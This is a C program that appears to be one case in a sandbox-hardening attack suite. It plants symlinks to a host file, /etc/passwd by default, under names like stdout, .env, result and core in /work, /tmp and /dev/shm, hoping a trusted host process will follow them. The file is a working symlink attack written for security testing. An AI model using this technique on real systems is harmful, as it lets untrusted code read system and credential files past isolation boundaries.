/* F6, F7, C-7: links to a file of the host under every name a trusted side may use, in every
 * directory that can be written; and /work itself made as unpleasant as possible. */
#include "attack.h"

int main(int argc, char **argv) {
    static const char *const names[] = {
        "stdout", "stderr", "stdin", "stdout.txt", "run",     "compile", "main",  "metadata",
        ".env",   "result", "core",  "output",     "program", "cgroup",  "a.out", ".sandboxd"};
    static const char *const places[] = {"/work", "/tmp", "/dev/shm"};
    const char *target = argc > 1 ? argv[1] : "/etc/passwd";
    long planted = 0;
    for (size_t place = 0; place < sizeof places / sizeof *places; place++) {
        for (size_t name = 0; name < sizeof names / sizeof *names; name++) {
            char path[128];
            snprintf(path, sizeof path, "%s/%s", places[place], names[name]);
            planted += symlink(target, path) == 0;
        }
    }
    say_number("planted", planted);
    return 0;
}
